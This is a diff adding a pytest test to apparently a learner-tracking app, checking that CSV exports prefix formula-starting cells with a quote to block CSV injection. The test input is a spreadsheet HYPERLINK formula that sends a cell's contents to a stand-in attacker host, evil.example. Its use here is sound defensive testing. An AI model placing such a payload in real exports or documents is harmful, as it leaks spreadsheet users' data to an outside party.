@@ -156,3 +156,20 @@ def test_the_log_csv_has_a_row_per_day_with_notes_quoted(learner_client):
         ],
         ["2025-03-02", "45", "", "not_really", "", ""],
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_would_start_a_formula_is_exported_as_text(learner, learner_client, topics, start):
+    """Security finding 3 (OWASP's CSV injection): a spreadsheet must never run a learner's text."""
+    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
+    LogEntryFactory(learner=learner, date=date(2025, 3, 5), stage=payload, note=payload)
+    ProgressFactory(learner=learner, topic=topics["integrals"], note=payload)
+
+    log = list(csv.reader(io.StringIO(learner_client.get(EXPORT_LOG).content.decode())))
+    progress = list(csv.reader(io.StringIO(learner_client.get(EXPORT_PROGRESS).content.decode())))
+
+    [day] = [row for row in log if row[0] == "2025-03-05"]
+    assert day[2] == day[5] == "'" + payload
+    [row] = [row for row in progress if row[1] == "integrals"]
+    assert row[4] == "'" + payload
+    assert ["2025-03-02", "45", "", "not_really", "", ""] in log  # other cells as they were
